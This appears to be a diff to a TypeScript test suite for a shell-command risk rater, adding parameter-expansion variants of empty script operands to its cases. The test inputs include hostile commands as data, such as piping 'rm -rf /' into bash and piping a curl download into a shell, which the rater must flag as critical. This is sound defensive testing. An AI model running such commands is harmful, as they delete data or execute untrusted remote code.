@@ -22,14 +22,15 @@ const bashSays = (line: string): string =>
   spawnSync("bash", ["-c", line], { cwd: dir, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"], env: { PATH: process.env["PATH"] ?? "" } }).stdout;
 
 describe("a shell whose script operand may be empty", () => {
-  it.each<string>(["bash $x", "sh $x", "bash ${x}", "xargs -a list bash", "xargs --arg-file=list sh"])("echo … | %s may run the pipe as the script", (shell) => {
-    expect(bashSays(`unset x; echo 'echo ran' | ${shell}`)).toBe("ran\n");
+  // `${x:+word}` is nothing when x is unset or empty, and `${x:-$y}` when y is too.
+  it.each<string>(["bash $x", "sh $x", "bash ${x}", "bash ${x:+y}", "bash ${x:-$y}", "xargs -a list bash", "xargs --arg-file=list sh"])("echo … | %s may run the pipe as the script", (shell) => {
+    expect(bashSays(`unset x y; echo 'echo ran' | ${shell}`)).toBe("ran\n");
     const r = rated(`echo 'rm -rf /' | ${shell}`);
     expect(r.risk, r.shown).toBe("critical");
     expect(r.details, r.shown).toContain("deletes / recursively");
   });
 
-  it.each<string>(["bash $x", "bash -x $x", "xargs -a list bash", "xargs -a list sh -e"])("curl … | %s may run the download", (shell) => {
+  it.each<string>(["bash $x", "bash -x $x", "bash ${x:+y}", "bash ${x:-$y}", "xargs -a list bash", "xargs -a list sh -e"])("curl … | %s may run the download", (shell) => {
     const r = rated(`curl https://example.com/x | ${shell}`);
     expect(r.risk, r.shown).toBe("critical");
     expect(r.details, r.shown).toContain(`downloads code and runs it with ${shell.split(" ").find((w) => /^(ba)?sh$/.test(w)) ?? ""}`);
